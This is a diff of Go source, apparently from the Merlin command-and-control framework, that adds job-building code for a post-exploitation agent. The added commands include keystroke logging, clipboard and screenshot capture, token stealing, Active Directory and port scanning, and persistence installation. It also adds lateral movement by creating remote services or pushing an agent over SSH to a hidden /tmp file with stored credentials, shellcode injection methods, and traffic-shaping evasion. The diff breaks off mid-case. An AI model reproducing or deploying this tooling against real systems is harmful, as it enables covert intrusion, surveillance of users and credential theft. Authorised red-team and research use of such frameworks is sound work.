@@ -23,7 +23,10 @@ package job
 
 import (
 	// Standard
+	"context"
+	"crypto/sha256"
 	"encoding/base64"
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -38,21 +41,49 @@ import (
 	"github.com/Ne0nd0g/merlin-message"
 	"github.com/Ne0nd0g/merlin-message/jobs"
 
+	"github.com/Ne0nd0g/merlin/v2/pkg/agents"
 	// Internal
+	"github.com/Ne0nd0g/merlin/v2/pkg/attack"
 	"github.com/Ne0nd0g/merlin/v2/pkg/client/message"
 	memoryMessage "github.com/Ne0nd0g/merlin/v2/pkg/client/message/memory"
 	"github.com/Ne0nd0g/merlin/v2/pkg/core"
+	"github.com/Ne0nd0g/merlin/v2/pkg/directory"
 	infoJobs "github.com/Ne0nd0g/merlin/v2/pkg/jobs"
 	"github.com/Ne0nd0g/merlin/v2/pkg/jobs/memory"
+	"github.com/Ne0nd0g/merlin/v2/pkg/modules/shellcode"
 	"github.com/Ne0nd0g/merlin/v2/pkg/modules/socks"
+	"github.com/Ne0nd0g/merlin/v2/pkg/persistence"
 	"github.com/Ne0nd0g/merlin/v2/pkg/services/agent"
+	"github.com/Ne0nd0g/merlin/v2/pkg/services/credentials"
+	directoryService "github.com/Ne0nd0g/merlin/v2/pkg/services/directory"
+	"github.com/Ne0nd0g/merlin/v2/pkg/services/hosts"
+	iocService "github.com/Ne0nd0g/merlin/v2/pkg/services/ioc"
+	"github.com/Ne0nd0g/merlin/v2/pkg/services/loot"
+	"github.com/Ne0nd0g/merlin/v2/pkg/services/payloads"
+	persistenceService "github.com/Ne0nd0g/merlin/v2/pkg/services/persistence"
+	"github.com/Ne0nd0g/merlin/v2/pkg/services/scan"
+)
+
+const (
+	// socksBackoff is how long to wait before retrying to queue SOCKS data for an Agent whose job queue is full
+	socksBackoff = 250 * time.Millisecond
+	// socksWait is the longest SOCKS data waits for room in an Agent's job queue before it is dropped
+	socksWait = 30 * time.Second
 )
 
 // Service holds references to repositories to manage Job objects
 type Service struct {
-	jobRepo      infoJobs.Repository
-	messageRepo  message.Repository
-	agentService *agent.Service
+	jobRepo            infoJobs.Repository
+	messageRepo        message.Repository
+	agentService       *agent.Service
+	credentialService  *credentials.Service
+	directoryService   *directoryService.Service
+	hostService        *hosts.Service
+	iocService         *iocService.Service
+	lootService        *loot.Service
+	payloadService     *payloads.Service
+	persistenceService *persistenceService.Service
+	scanService        *scan.Service
 }
 
 // memoryService is an in-memory instantiation of the Agent service so that it can be used by others
@@ -62,9 +93,17 @@ var memoryService *Service
 func NewJobService() *Service {
 	if memoryService == nil {
 		memoryService = &Service{
-			jobRepo:      WithJobMemoryRepository(),
-			messageRepo:  withMemoryClientMessageRepository(),
-			agentService: agent.NewAgentService(),
+			jobRepo:            WithJobMemoryRepository(),
+			messageRepo:        withMemoryClientMessageRepository(),
+			agentService:       agent.NewAgentService(),
+			credentialService:  credentials.NewCredentialService(),
+			directoryService:   directoryService.NewDirectoryService(),
+			hostService:        hosts.NewHostService(),
+			iocService:         iocService.NewIOCService(),
+			lootService:        loot.NewLootService(),
+			payloadService:     payloads.NewPayloadService(),
+			persistenceService: persistenceService.NewPersistenceService(),
+			scanService:        scan.NewScanService(),
 		}
 		// Start the SOCKS infinite loop
 		go memoryService.socksJobs()
@@ -80,8 +119,54 @@ func withMemoryClientMessageRepository() message.Repository {
 	return memoryMessage.NewRepository()
 }
 
-func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (string, error) {
+// Add builds a job of the provided type from its arguments and adds it to the Agent's job queue. The returned string
+// describes the created job, or the result of server-side only commands.
+// Commands the Agent's platform doesn't support are refused
+func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string, techniques ...string) (string, error) {
+	var job jobs.Job
+	return s.add(agentID, jobType, jobArgs, &job, false, techniques...)
+}
+
+// AddForced builds and adds a job like Add, but sends it even if the Agent's platform doesn't support the command
+func (s *Service) AddForced(agentID uuid.UUID, jobType string, jobArgs []string, techniques ...string) (string, error) {
 	var job jobs.Job
+	return s.add(agentID, jobType, jobArgs, &job, true, techniques...)
+}
+
+// Task builds a job of the provided type from its arguments, adds it to a single Agent's job queue, and returns the job's
+// ID so that its results can be waited on. Server-side only commands do not create a job and return an empty ID.
+// Task is used by scripts and other server-side automation, so commands that require two-person integrity are refused
+func (s *Service) Task(agentID uuid.UUID, jobType string, jobArgs []string) (string, error) {
+	if agentID.String() == "ffffffff-ffff-ffff-ffff-ffffffffffff" {
+		return "", fmt.Errorf("pkg/services/job.Task(): jobs can only be tasked to a single Agent")
+	}
+	if RequiresApproval(jobType) {
+		return "", fmt.Errorf("pkg/services/job.Task(): the '%s' command requires approval from a second operator and can only be tasked by an operator", jobType)
+	}
+	return s.task(agentID, jobType, jobArgs)
+}
+
+// task adds the job to a single Agent's job queue and returns the job's ID without checking the two-person integrity
+// policy. It is only used for jobs that follow from an operator's call, such as removing persistence before a destroy
+func (s *Service) task(agentID uuid.UUID, jobType string, jobArgs []string) (string, error) {
+	var job jobs.Job
+	_, err := s.add(agentID, jobType, jobArgs, &job, false)
+	return job.ID, err
+}
+
+// add builds the provided job from the job type and its arguments and adds it to the Agent's job queue.
+// The Agent's platform is not checked when force is true
+func (s *Service) add(agentID uuid.UUID, jobType string, jobArgs []string, job *jobs.Job, force bool, techniques ...string) (string, error) {
+	supported := s.supported
+	gate := platforms[jobType]
+	if force {
+		supported = func(uuid.UUID, string, ...string) error { return nil }
+		gate = nil
+	}
+	err := supported(agentID, jobType, gate...)
+	if err != nil {
+		return "", err
+	}
 
 	switch jobType {
 	case "agentInfo":
@@ -90,12 +175,60 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			Command: "agentInfo",
 		}
 	case "download":
+		// jobArgs[0] - the file to download from the Agent
+		// jobArgs[1] - optional attempt number when the file is downloaded again after failing its integrity check
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the download command, received: %+v", jobArgs)
+		}
 		job.Type = jobs.FILETRANSFER
 		p := jobs.FileTransfer{
 			FileLocation: jobArgs[0],
 			IsDownload:   false,
 		}
 		job.Payload = p
+	case "ad":
+		// jobArgs[0] - the Active Directory object class to query (e.g., users|computers|groups|gpos|trusts)
+		// jobArgs[1] - optional LDAP filter that is combined with the object class filter (e.g., (adminCount=1))
+		// jobArgs[2] - optional number of results per page the Agent returns
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the ad command, received: %+v", jobArgs)
+		}
+		class, err := directory.FromString(jobArgs[0])
+		if err != nil {
+			return "", fmt.Errorf("invalid ad object class '%s', expected one of users, computers, groups, gpos, or trusts", jobArgs[0])
+		}
+		jobArgs[0] = strings.ToLower(class.String()) + "s"
+		if len(jobArgs) > 1 && jobArgs[1] != "" {
+			err = ldapFilter(jobArgs[1])
+			if err != nil {
+				return "", err
+			}
+		}
+		if len(jobArgs) > 2 {
+			size, err := strconv.Atoi(jobArgs[2])
+			if err != nil || size < 1 || size > 1000 {
+				return "", fmt.Errorf("the ad page size must be a number between 1 and 1000, received: %s", jobArgs[2])
+			}
+		}
+		techniques = append(techniques, attack.Techniques(fmt.Sprintf("%s %s", jobType, jobArgs[0]))...)
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    jobArgs,
+		}
+	case "campaign":
+		// jobArgs[0] - optional campaign identifier to assign to the Agent on the server instead of asking the Agent
+		if len(jobArgs) > 0 && jobArgs[0] != "" {
+			err := s.agentService.UpdateCampaign(agentID, jobArgs[0])
+			if err != nil {
+				return "", err
+			}
+			return fmt.Sprintf("Set agent %s campaign to %s", agentID, jobArgs[0]), nil
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+		}
 	case "cd":
 		job.Type = jobs.NATIVE
 		p := jobs.Command{
@@ -104,6 +237,9 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 		}
 		job.Payload = p
 	case "changelistener":
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the changelistener command, received: %+v", jobArgs)
+		}
 		job.Type = jobs.CONTROL
 		p := jobs.Command{
 			Command: jobArgs[0],
@@ -113,6 +249,29 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			p.Args = jobArgs[1:]
 		}
 		job.Payload = p
+	case "clipboard":
+		// jobArgs[0] - the clipboard method (e.g., get|monitor|stop)
+		// jobArgs[1] - the interval the Agent checks the clipboard for changes on when monitoring (e.g., 5s)
+		if len(jobArgs) < 1 {
+			jobArgs = []string{"get"}
+		}
+		switch strings.ToLower(jobArgs[0]) {
+		case "get", "stop":
+		case "monitor":
+			if len(jobArgs) < 2 {
+				return "", fmt.Errorf("the clipboard monitor command requires an interval")
+			}
+			if _, err := time.ParseDuration(jobArgs[1]); err != nil {
+				return "", fmt.Errorf("there was an error parsing the clipboard interval '%s': %s", jobArgs[1], err)
+			}
+		default:
+			return "", fmt.Errorf("invalid clipboard method: %s", jobArgs[0])
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    jobArgs,
+		}
 	case "connect":
 		job.Type = jobs.CONTROL
 		p := jobs.Command{
@@ -135,23 +294,93 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			Command: jobType,
 			Args:    jobArgs,
 		}
+	case "deploy":
+		// Uploads, executes, and links to a bind Agent on a remote host through a chain of jobs
+		return s.deploy(agentID, jobArgs)
+	case "destroy":
+		// jobArgs[0] - optional "force" to destroy the Agent without removing its persistence artifacts first
+		// The Agent removes its binary and configuration from the host and exits; it is removed from the server once it
+		// confirms it was destroyed
+		force := len(jobArgs) > 0 && strings.ToLower(jobArgs[0]) == "force"
+		if artifacts := s.persistenceService.Installed(agentID); !force && len(artifacts) > 0 {
+			return s.destroyAfterCleanup(agentID, artifacts)
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+		}
 	case "exit":
 		job.Type = jobs.CONTROL
 		p := jobs.Command{
 			Command: jobType,
 		}
 		job.Payload = p
+	case "fallback":
+		// jobArgs[0] - the number of consecutive failed check-ins before the Agent moves to the next channel
+		// jobArgs[1:] - groups of six arguments for each fallback listener in order; see the transport command
+		if len(jobArgs) < 7 || (len(jobArgs)-1)%6 != 0 {
+			return "", fmt.Errorf("pkg/services/job.Add(): expected a failure count followed by groups of 6 arguments for the fallback command, received %d", len(jobArgs))
+		}
+		failures, err := strconv.Atoi(jobArgs[0])
+		if err != nil || failures < 1 {
+			return "", fmt.Errorf("pkg/services/job.Add(): the fallback failure count must be a positive integer: %s", jobArgs[0])
+		}
+		job.Type = jobs.CONTROL
+		job.Payload = jobs.Command{
+			Command: "fallback",
+			Args:    jobArgs,
+		}
 	case "ifconfig":
 		job.Type = jobs.NATIVE
 		job.Payload = jobs.Command{
 			Command: jobType,
 		}
+	case "idle":
+		// jobArgs[0] - the idle method (e.g., check|watch|stop)
+		// jobArgs[1] - the interval the Agent measures user activity on when watching (e.g., 10m)
+		if len(jobArgs) < 1 {
+			jobArgs = []string{"check"}
+		}
+		switch strings.ToLower(jobArgs[0]) {
+		case "check", "stop":
+		case "watch":
+			if len(jobArgs) < 2 {
+				return "", fmt.Errorf("the idle watch command requires an interval")
+			}
+			if _, err := time.ParseDuration(jobArgs[1]); err != nil {
+				return "", fmt.Errorf("there was an error parsing the idle interval '%s': %s", jobArgs[1], err)
+			}
+		default:
+			return "", fmt.Errorf("invalid idle method: %s", jobArgs[0])
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    jobArgs,
+		}
 	case "initialize":
 		job.Type = jobs.CONTROL
 		p := jobs.Command{
 			Command: jobType,
 		}
 		job.Payload = p
+	case "injection-method":
+		// Server-side only; the technique is used for future jobs and is not sent to the Agent
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected 1 argument for the injection-method command, received: %+v", jobArgs)
+		}
+		method, err := shellcode.Method(jobArgs[0])
+		if err != nil {
+			return "", err
+		}
+		if method == "self" {
+			return "", fmt.Errorf("the 'self' method can not be used as an Agent's default injection-method")
+		}
+		err = s.agentService.UpdateInjection(agentID, method)
+		if err != nil {
+			return "", fmt.Errorf("there was an error setting agent %s injection-method: %s", agentID, err)
+		}
+		return fmt.Sprintf("Set agent %s injection-method to %s", agentID, method), nil
 	case "invoke-assembly":
 		if len(jobArgs) < 1 {
 			return "", fmt.Errorf("exected 1 argument for the invoke-assembly command, received: %+v", jobArgs)
@@ -162,6 +391,9 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			Args:    append([]string{jobType}, jobArgs...),
 		}
 	case "ja3":
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the ja3 command, received: %+v", jobArgs)
+		}
 		job.Type = jobs.CONTROL
 		p := jobs.Command{
 			Command: jobArgs[0],
@@ -171,7 +403,32 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			p.Args = jobArgs[1:]
 		}
 		job.Payload = p
+	case "keylogger":
+		// jobArgs[0] - the keylogger method (e.g., start|stop|dump)
+		// jobArgs[1] - optional interval the Agent returns buffered keystrokes on when started (e.g., 30s)
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the keylogger command, received: %+v", jobArgs)
+		}
+		switch strings.ToLower(jobArgs[0]) {
+		case "start":
+			if len(jobArgs) > 1 {
+				if _, err := time.ParseDuration(jobArgs[1]); err != nil {
+					return "", fmt.Errorf("there was an error parsing the keylogger interval '%s': %s", jobArgs[1], err)
+				}
+			}
+		case "stop", "dump":
+		default:
+			return "", fmt.Errorf("invalid keylogger method: %s", jobArgs[0])
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    jobArgs,
+		}
 	case "killdate":
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the killdate command, received: %+v", jobArgs)
+		}
 		job.Type = jobs.CONTROL
 		p := jobs.Command{
 			Command: jobArgs[0],
@@ -296,12 +553,148 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			Args:    jobArgs,
 		}
 		job.Payload = p
+	case "persist":
+		// jobArgs[0] - the persist method (e.g., install|remove|cleanup)
+		// install: jobArgs[1] - the persistence technique; jobArgs[2] - the command line to execute; jobArgs[3] - optional artifact name
+		// remove: jobArgs[1] - the ID of the persistence artifact to remove
+		// cleanup: create a remove job for every persistence artifact that remains on the Agent's host
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the persist command, received: %+v", jobArgs)
+		}
+		switch strings.ToLower(jobArgs[0]) {
+		case "install":
+			if len(jobArgs) < 3 {
+				return "", fmt.Errorf("the persist install command requires a technique and a command line, received: %+v", jobArgs[1:])
+			}
+			technique, ok := persistence.Techniques[strings.ToLower(jobArgs[1])]
+			if !ok {
+				return "", fmt.Errorf("invalid persistence technique '%s', expected one of %s", jobArgs[1], persistence.TechniqueNames())
+			}
+			err := supported(agentID, fmt.Sprintf("persist %s", strings.ToLower(jobArgs[1])), technique.Platform)
+			if err != nil {
+				return "", err
+			}
+			name := core.RandStringBytesMaskImprSrc(8)
+			if len(jobArgs) > 3 && jobArgs[3] != "" {
+				name = jobArgs[3]
+			}
+			techniques = append(techniques, attack.Techniques(fmt.Sprintf("%s %s", jobType, strings.ToLower(jobArgs[1])))...)
+			job.Payload = jobs.Command{
+				Command: jobType,
+				Args:    []string{"install", strings.ToLower(jobArgs[1]), name, jobArgs[2], fmt.Sprintf(technique.Location, name)},
+			}
+		case "remove":
+			if len(jobArgs) < 2 {
+				return "", fmt.Errorf("the persist remove command requires the ID of the persistence artifact to remove")
+			}
+			id, err := uuid.Parse(jobArgs[1])
+			if err != nil {
+				return "", fmt.Errorf("there was an error parsing '%s' as a UUID: %s", jobArgs[1], err)
+			}
+			artifact, err := s.persistenceService.Get(id)
+			if err != nil {
+				return "", err
+			}
+			if artifact.AgentID() != agentID {
+				return "", fmt.Errorf("persistence artifact %s was created by agent %s, not %s", id, artifact.AgentID(), agentID)
+			}
+			if artifact.Status() == persistence.REMOVED {
+				return "", fmt.Errorf("persistence artifact %s was already removed", id)
+			}
+			job.Payload = jobs.Command{
+				Command: jobType,
+				Args:    []string{"remove", artifact.Technique(), artifact.Name(), artifact.Location(), artifact.ID().String()},
+			}
+		case "cleanup":
+			artifacts := s.persistenceService.Installed(agentID)
+			if len(artifacts) == 0 {
+				return "", fmt.Errorf("there are no persistence artifacts to clean up")
+			}
+			results := fmt.Sprintf("Creating jobs to remove %d persistence artifact(s)", len(artifacts))
+			for _, artifact := range artifacts {
+				result, err := s.Add(artifact.AgentID(), jobType, []string{"remove", artifact.ID().String()})
+				if err != nil {
+					return results, err
+				}
+				results += fmt.Sprintf("\n\t%s: %s %s", artifact.ID(), artifact.Location(), result)
+			}
+			return results, nil
+		default:
+			return "", fmt.Errorf("invalid persist method: %s", jobArgs[0])
+		}
+		job.Type = jobs.MODULE
 	case "pipes":
 		job.Type = jobs.MODULE
 		p := jobs.Command{
 			Command: "pipes",
 		}
 		job.Payload = p
+	case "preflight":
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+		}
+	case "security":
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+		}
+	case "profile":
+		// Server-side only; shapes the messages sent to the Agent and is not sent to the Agent
+		// jobArgs[0] - the profile setting (e.g., padding|delay|reset)
+		// padding: jobArgs[1] - the distribution (e.g., uniform|normal|exponential), jobArgs[2] - minimum bytes, jobArgs[3] - maximum bytes
+		// delay: jobArgs[1] - the minimum duration, jobArgs[2] - the maximum duration
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the profile command, received: %+v", jobArgs)
+		}
+		a, err := s.agentService.Agent(agentID)
+		if err != nil {
+			return "", err
+		}
+		profile := a.Profile()
+		switch strings.ToLower(jobArgs[0]) {
+		case "padding":
+			if len(jobArgs) < 4 {
+				return "", fmt.Errorf("the profile padding command requires a distribution, minimum, and maximum, received: %+v", jobArgs[1:])
+			}
+			minimum, err := strconv.Atoi(jobArgs[2])
+			if err != nil {
+				return "", fmt.Errorf("the minimum padding must be a whole number of bytes: %s", jobArgs[2])
+			}
+			maximum, err := strconv.Atoi(jobArgs[3])
+			if err != nil {
+				return "", fmt.Errorf("the maximum padding must be a whole number of bytes: %s", jobArgs[3])
+			}
+			profile, err = profile.NewPadding(jobArgs[1], minimum, maximum)
+			if err != nil {
+				return "", err
+			}
+		case "delay":
+			if len(jobArgs) < 3 {
+				return "", fmt.Errorf("the profile delay command requires a minimum and maximum duration, received: %+v", jobArgs[1:])
+			}
+			minimum, err := time.ParseDuration(jobArgs[1])
+			if err != nil {
+				return "", fmt.Errorf("there was an error parsing the minimum delay: %s", err)
+			}
+			maximum, err := time.ParseDuration(jobArgs[2])
+			if err != nil {
+				return "", fmt.Errorf("there was an error parsing the maximum delay: %s", err)
+			}
+			profile, err = profile.NewDelay(minimum, maximum)
+			if err != nil {
+				return "", err
+			}
+		case "reset":
+			profile = agents.Profile{}
+		default:
+			return "", fmt.Errorf("unknown profile setting '%s', expected one of: padding, delay, reset", jobArgs[0])
+		}
+		err = s.agentService.UpdateProfile(agentID, profile)
+		if err != nil {
+			return "", fmt.Errorf("there was an error setting agent %s traffic profile: %s", agentID, err)
+		}
+		return fmt.Sprintf("Set agent %s traffic profile to %s", agentID, profile), nil
 	case "ps":
 		job.Type = jobs.MODULE
 		p := jobs.Command{
@@ -315,12 +708,18 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 		}
 		job.Payload = p
 	case "rm":
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected 1 argument for the rm command, received: %+v", jobArgs)
+		}
 		job.Type = jobs.NATIVE
 		job.Payload = jobs.Command{
 			Command: jobType,
 			Args:    jobArgs[0:1],
 		}
 	case "run", "exec":
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the %s command, received: %+v", jobType, jobArgs)
+		}
 		job.Type = jobs.CMD
 		payload := jobs.Command{
 			Command: jobArgs[0],
@@ -335,6 +734,100 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			Command: jobType,
 			Args:    jobArgs,
 		}
+	case "scan":
+		// jobArgs[0] - the IP address or CIDR network to scan (e.g., 192.168.1.0/24)
+		// jobArgs[1] - the comma separated list of ports and port ranges to scan (e.g., 22,80,443,8000-8100)
+		// jobArgs[2] - optional maximum number of connection attempts per second
+		// jobArgs[3] - optional amount of time to wait for each connection attempt (e.g., 500ms)
+		if len(jobArgs) < 2 {
+			return "", fmt.Errorf("expected at least 2 arguments for the scan command, received: %+v", jobArgs)
+		}
+		err := scanTarget(jobArgs[0])
+		if err != nil {
+			return "", err
+		}
+		err = scanPorts(jobArgs[1])
+		if err != nil {
+			return "", err
+		}
+		if len(jobArgs) > 2 {
+			rate, err := strconv.Atoi(jobArgs[2])
+			if err != nil || rate < 1 {
+				return "", fmt.Errorf("the scan rate must be a number greater than 0, received: %s", jobArgs[2])
+			}
+		}
+		if len(jobArgs) > 3 {
+			if _, err = time.ParseDuration(jobArgs[3]); err != nil {
+				return "", fmt.Errorf("there was an error parsing the scan timeout '%s': %s", jobArgs[3], err)
+			}
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    jobArgs,
+		}
+	case "scexec":
+		// jobArgs[0] - the remote host to create the service on
+		// jobArgs[1] - the file path, on the Merlin server, of the service binary to deploy
+		// jobArgs[2] - optional service name; a random name is used if empty
+		// jobArgs[3] - optional username to retrieve credentials for from the credential store; the current token is used if empty
+		// jobArgs[4] - optional named pipe of the deployed SMB Agent to automatically link to
+		if len(jobArgs) < 2 {
+			return "", fmt.Errorf("expected at least 2 arguments for the scexec command, received: %+v", jobArgs)
+		}
+		data, err := os.ReadFile(jobArgs[1])
+		if err != nil {
+			return "", fmt.Errorf("there was an error reading the service binary to deploy: %s", err)
+		}
+		service := core.RandStringBytesMaskImprSrc(8)
+		if len(jobArgs) > 2 && jobArgs[2] != "" {
+			service = jobArgs[2]
+		}
+		var credential []string
+		if len(jobArgs) > 3 {
+			credential = jobArgs[3:]
+		}
+		user, secret, err := s.windowsCredential(credential)
+		if err != nil {
+			return "", err
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    []string{jobArgs[0], base64.StdEncoding.EncodeToString(data), service, user, secret},
+		}
+	case "screenshot":
+		// jobArgs[0] - the screenshot method (e.g., take|watch|stop)
+		// take: jobArgs[1:] - optional monitor, JPEG quality, and scale
+		// watch: jobArgs[1] - the interval to capture screenshots on; jobArgs[2:] - optional monitor, JPEG quality, and scale
+		if len(jobArgs) < 1 {
+			jobArgs = []string{"take"}
+		}
+		var options []string
+		switch strings.ToLower(jobArgs[0]) {
+		case "take":
+			options = jobArgs[1:]
+		case "watch":
+			if len(jobArgs) < 2 {
+				return "", fmt.Errorf("the screenshot watch command requires an interval")
+			}
+			if _, err := time.ParseDuration(jobArgs[1]); err != nil {
+				return "", fmt.Errorf("there was an error parsing the screenshot interval '%s': %s", jobArgs[1], err)
+			}
+			options = jobArgs[2:]
+		case "stop":
+		default:
+			return "", fmt.Errorf("invalid screenshot method: %s", jobArgs[0])
+		}
+		err := screenshotOptions(options)
+		if err != nil {
+			return "", err
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    jobArgs,
+		}
 	case "sdelete":
 		job.Type = jobs.NATIVE
 		job.Payload = jobs.Command{
@@ -350,25 +843,34 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 		job.Payload = payload
 	case "shellcode":
 		// jobArgs[0] - base64 encoded shellcode
-		// jobArgs[1] - method
+		// jobArgs[1] - method; "default" uses the Agent's injection-method
 		// jobArgs[2] - PID
+		if len(jobArgs) < 2 {
+			return "", fmt.Errorf("the shellcode command requires at least two arguments, have %d", len(jobArgs))
+		}
 		job.Type = jobs.SHELLCODE
 		payload := jobs.Shellcode{
-			Method: strings.ToLower(jobArgs[1]),
+			Bytes: jobArgs[0],
 		}
 
-		if payload.Method == "self" {
-			payload.Bytes = jobArgs[0]
-		} else if payload.Method == "remote" || payload.Method == "rtlcreateuserthread" || payload.Method == "userapc" {
+		// An empty method is replaced with the Agent's injection-method when the job is built
+		if strings.ToLower(jobArgs[1]) != "default" {
+			method, err := shellcode.Method(jobArgs[1])
+			if err != nil {
+				return "", err
+			}
+			payload.Method = method
+		}
+
+		if payload.Method != "self" {
 			if len(jobArgs) < 3 {
-				return "", fmt.Errorf("the '%s' shellcode command requires three agruments, have %d", payload.Method, len(jobArgs))
+				return "", fmt.Errorf("the '%s' shellcode command requires three agruments, have %d", jobArgs[1], len(jobArgs))
 			}
 			i, err := strconv.Atoi(jobArgs[2])
 			if err != nil {
 				return "", err
 			}
 			payload.PID = uint32(i)
-			payload.Bytes = jobArgs[0]
 		}
 		job.Payload = payload
 	case "skew":
@@ -386,12 +888,107 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 		}
 		job.Payload = p
 	case "ssh":
+		// jobArgs[0] - the SSH username
+		// jobArgs[1] - the SSH password
+		// jobArgs[2] - the SSH host:port
+		// jobArgs[3] - the program to execute
+		// jobArgs[4] - program arguments (optional)
+		// Two or three arguments use a password or private key from the credential store:
+		// jobArgs[0] - the <user>@<host>[:port] to connect to
+		// jobArgs[1] - the program to execute
+		// jobArgs[2] - program arguments (optional)
+		if len(jobArgs) == 2 || len(jobArgs) == 3 {
+			err := supported(agentID, jobType, "linux", "darwin")
+			if err != nil {
+				return "", err
+			}
+			user, secret, host, err := s.sshCredential(jobArgs[0])
+			if err != nil {
+				return "", err
+			}
+			jobArgs = append([]string{user, secret, host}, jobArgs[1:]...)
+		}
+		if len(jobArgs) < 4 {
+			return "", fmt.Errorf("expected at least 4 arguments for the ssh command, received %d", len(jobArgs))
+		}
 		job.Type = jobs.MODULE
 		job.Payload = jobs.Command{
 			Command: jobType,
 			Args:    jobArgs,
 		}
+	case "ssh-deploy":
+		// jobArgs[0] - the <user>@<host>[:port] to deploy to using credentials from the credential store
+		// jobArgs[1] - the file path, on the Merlin server, of the Agent to deploy
+		// jobArgs[2] - optional file path on the remote host to write the Agent to and execute it from
+		if len(jobArgs) < 2 {
+			return "", fmt.Errorf("expected at least 2 arguments for the ssh-deploy command, received: %+v", jobArgs)
+		}
+		err := supported(agentID, jobType, "linux", "darwin")
+		if err != nil {
+			return "", err
+		}
+		user, secret, host, err := s.sshCredential(jobArgs[0])
+		if err != nil {
+			return "", err
+		}
+		data, err := os.ReadFile(jobArgs[1])
+		if err != nil {
+			return "", fmt.Errorf("there was an error reading the Agent to deploy: %s", err)
+		}
+		remote := fmt.Sprintf("/tmp/.%s", core.RandStringBytesMaskImprSrc(8))
+		if len(jobArgs) > 2 && jobArgs[2] != "" {
+			remote = jobArgs[2]
+		}
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    []string{user, secret, host, base64.StdEncoding.EncodeToString(data), remote},
+		}
+	case "throttle":
+		// jobArgs[0] - the bandwidth, in kilobits per second, to limit the Agent's traffic to; 0 is unlimited
+		// The server paces its responses to the Agent and the Agent paces its own uploads
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected 1 argument for the throttle command, received: %+v", jobArgs)
+		}
+		kbps, err := strconv.Atoi(jobArgs[0])
+		if err != nil || kbps < 0 {
+			return "", fmt.Errorf("the throttle bandwidth must be a whole number of kilobits per second, or 0 for unlimited: %s", jobArgs[0])
+		}
+		err = s.agentService.UpdateThrottle(agentID, kbps)
+		if err != nil {
+			return "", fmt.Errorf("there was an error setting agent %s throttle: %s", agentID, err)
+		}
+		job.Type = jobs.CONTROL
+		job.Payload = jobs.Command{
+			Command: jobType,
+			Args:    []string{strconv.Itoa(kbps)},
+		}
+	case "timezone":
+		job.Type = jobs.MODULE
+		job.Payload = jobs.Command{
+			Command: jobType,
+		}
 	case "token":
+		// jobArgs[0] - the token method (e.g., list|make|privs|rev2self|steal|whoami)
+		if len(jobArgs) < 1 {
+			return "", fmt.Errorf("expected at least 1 argument for the token command, received: %+v", jobArgs)
+		}
+		switch strings.ToLower(jobArgs[0]) {
+		case "list", "privs", "rev2self", "whoami":
+		case "make":
+			if len(jobArgs) < 3 {
+				return "", fmt.Errorf("the token make command requires a username and password, received: %+v", jobArgs[1:])
+			}
+		case "steal":
+			if len(jobArgs) < 2 {
+				return "", fmt.Errorf("the token steal command requires a process ID, received: %+v", jobArgs[1:])
+			}
+			if _, err := strconv.Atoi(jobArgs[1]); err != nil {
+				return "", fmt.Errorf("there was an error converting the process ID '%s' to an integer: %s", jobArgs[1], err)
+			}
+		default:
+			return "", fmt.Errorf("invalid token method: %s", jobArgs[0])
+		}
 		job.Type = jobs.MODULE
 		job.Payload = jobs.Command{
 			Command: jobType,
@@ -403,6 +1000,21 @@ func (s *Service) Add(agentID uuid.UUID, jobType string, jobArgs []string) (stri
 			Command: jobType,
 			Args:    jobArgs,
 		}
+	case "transport":
+		// jobArgs[0] - the destination listener's protocol (e.g., https, http3)
+		// jobArgs[1] - the URL the Agent uses to reach the destination listener
+		// jobArgs[2] - the destination listener's PSK
+		// jobArgs[3] - the destination listener's comma-separated transforms
+		// jobArgs[4] - the destination listener's authenticator
